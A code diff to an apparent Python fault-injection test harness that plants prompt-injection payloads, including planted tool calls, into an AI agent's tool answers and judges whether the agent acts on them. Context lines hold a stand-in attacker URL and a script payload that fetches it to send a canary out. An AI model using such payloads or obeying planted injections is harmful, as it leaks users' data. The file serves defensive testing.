@@ -48,6 +48,7 @@ if TYPE_CHECKING:
     from hypothesis.strategies import SearchStrategy
 
     from faultkit.faults._search import Limits
+    from faultkit.ledger import LedgerEntry
 
 Payload = Literal["instruction", "exfiltration", "script", "canary", "tool_call"]
 OUTSIDE = "https://attacker.example/collect"
@@ -61,6 +62,20 @@ _WORDING: dict[str, str] = {
     "script": f"<script>fetch('{OUTSIDE}?d={{canary}}')</script>",
     "canary": "{canary}",
 }
+
+
+def planted_calls(entry: LedgerEntry) -> list[str]:
+    """The names of the tool calls an ``injection`` fault planted in ``entry``'s answer
+    (``payload: tool_call``), as its alterations record them: the one reading of that record,
+    for the engine (which answers the planted call's request) and the oracle (which judges
+    running it)."""
+    return [
+        alt.value["name"]
+        for fault in entry.faults
+        if fault.type == "injection"
+        for alt in fault.alterations
+        if alt.action == "injected" and isinstance(alt.value, dict) and "name" in alt.value
+    ]
 
 
 def canary(rng: random.Random) -> str:
